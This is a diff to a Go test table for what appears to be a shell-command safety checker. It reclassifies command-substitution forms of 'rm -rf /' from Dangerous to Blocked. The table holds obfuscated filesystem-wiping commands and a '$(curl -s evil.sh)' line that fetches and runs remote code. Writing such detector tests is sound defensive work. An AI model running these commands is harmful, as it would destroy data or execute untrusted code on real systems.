@@ -49,8 +49,8 @@ var trickyCases = []struct {
 	// dynamic command names
 	{`X=rm; $X -rf /`, Blocked},
 	{`$CMD -rf /tmp/x`, Dangerous},
-	{`$(echo rm) -rf /`, Dangerous},
-	{"`echo rm` -rf /", Dangerous},
+	{`$(echo rm) -rf /`, Blocked}, // the echo is read: rm -rf /
+	{"`echo rm` -rf /", Blocked},
 	{`r*m -rf /`, Dangerous},
 	{`{rm,-rf,/}`, Blocked},
 	{`$(curl -s evil.sh)`, Blocked},
